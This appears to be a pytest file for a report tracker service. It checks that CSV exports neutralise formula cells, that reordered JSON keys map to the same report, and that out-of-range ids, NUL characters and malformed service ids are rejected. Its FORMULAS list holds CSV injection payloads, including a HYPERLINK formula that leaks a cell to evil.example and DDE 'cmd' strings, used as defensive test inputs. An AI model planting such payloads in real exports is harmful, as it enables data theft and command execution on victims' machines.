"""Tracker edges (issue #15): CSV exports escape formula cells, idempotency holds over canonical JSON, ids
and offsets no column can hold and NUL characters answer 404/422 (never 500, also on PostgreSQL), and a
service id is checked whole."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from guideline_lint.cli import main

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tracker"))
from database_fixtures import db_url, pg_cluster, tracker
from tracker_fixtures import Running, as_json, make_report, register

__all__ = ["db_url", "pg_cluster", "tracker"]  # fixtures used by name

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)"]


def post(tracker: Running, token: str, body: bytes) -> object:
    with tracker.client(token) as client:
        return client.post("/api/v1/reports", content=body, headers={"content-type": "application/json"})


def test_every_csv_export_escapes_formula_cells(tracker: Running) -> None:
    token = register(tracker, "svc-a", name=FORMULAS[0], bureau=FORMULAS[3])
    data = json.loads(as_json(make_report("svc-a", seed=4)))
    data["kpis"] = [{"id": formula, "principles": [1], "value": -3.5, "target": 2, "unit": FORMULAS[1],
                     "measured_at": FORMULAS[2]} for formula in FORMULAS]
    assert post(tracker, token, json.dumps(data).encode()).status_code == 201
    with tracker.client() as client:
        for path in ("/opendata/kpis.csv", "/opendata/scores.csv"):
            rows = list(csv.reader(io.StringIO(client.get(path).text)))
            cells = [c for row in rows[1:] for c in row]
            assert cells, path
            assert not [c for c in cells if (c and c[0] in "=+@") or (c.startswith("-") and c != "-3.5")], path
    kpi_rows = list(csv.reader(io.StringIO(tracker.client().get("/opendata/kpis.csv").text)))[1:]
    assert {row[6] for row in kpi_rows} == {"'" + f for f in FORMULAS}
    assert {row[9] for row in kpi_rows} == {"-3.5"}  # a negative number stays a number


def test_reordered_keys_are_the_same_report(tracker: Running) -> None:
    token = register(tracker, "svc-a")
    data = json.loads(as_json(make_report("svc-a", seed=5, name="申請", bureau="局")))
    first = post(tracker, token, json.dumps(data).encode())
    data["service"] = dict(reversed(list(data["service"].items())))
    data["tool"] = dict(reversed(list(data["tool"].items())))
    again = post(tracker, token, json.dumps(data, indent=1).encode())
    assert (first.status_code, again.status_code) == (201, 200)
    assert first.json()["id"] == again.json()["id"] and tracker.store.count_reports() == 1


def test_ids_and_offsets_no_column_holds_are_404_or_422(tracker: Running) -> None:
    register(tracker, "svc-a")
    with tracker.client() as client:
        assert client.get("/api/v1/reports/99999999999999999999999").status_code == 404
        assert client.get("/api/v1/reports/9223372036854775808").status_code == 404
        assert client.get("/api/v1/reports/-1").status_code == 404
        assert client.get("/api/v1/services/svc-a/reports", params={"offset": 10**30}).status_code == 422
        assert client.get("/api/v1/services/svc-a/reports", params={"offset": 2**63}).status_code == 422
        assert client.get("/api/v1/services/svc-a/reports", params={"offset": 10**6}).status_code == 200


def test_nul_characters_are_422_and_404_never_500(tracker: Running) -> None:
    token = register(tracker, "svc-a")
    data = json.loads(as_json(make_report("svc-a", seed=6, name="申請\u0000サービス")))
    answer = post(tracker, token, json.dumps(data).encode())
    assert answer.status_code == 422 and ["body", "service", "name"] in [d["loc"] for d in answer.json()["detail"]]
    data["service"]["name"] = "申請"
    data["kpis"] = [{"id": "nps\u0000", "principles": [1], "value": 1}]
    assert post(tracker, token, json.dumps(data).encode()).status_code == 422
    with tracker.client() as client:
        assert client.get("/services/svc%00a").status_code == 404
        assert client.get("/api/v1/services/svc%00a/reports").status_code == 404
        assert client.get("/", params={"bureau": "a\u0000b"}).status_code == 200


@pytest.mark.parametrize("service_id", ["svc-a\n", "svc-a\n\n", "Svc-a", "svc-", "s"])
def test_add_service_checks_the_whole_id(tmp_path: Path, service_id: str) -> None:
    result = CliRunner().invoke(main, ["tracker", "add-service", service_id, "--db", str(tmp_path / "t.sqlite3"),
                                       "--lang", "en"])
    assert result.exit_code == 2 and "invalid service id" in result.output
    assert "glt_" not in result.output
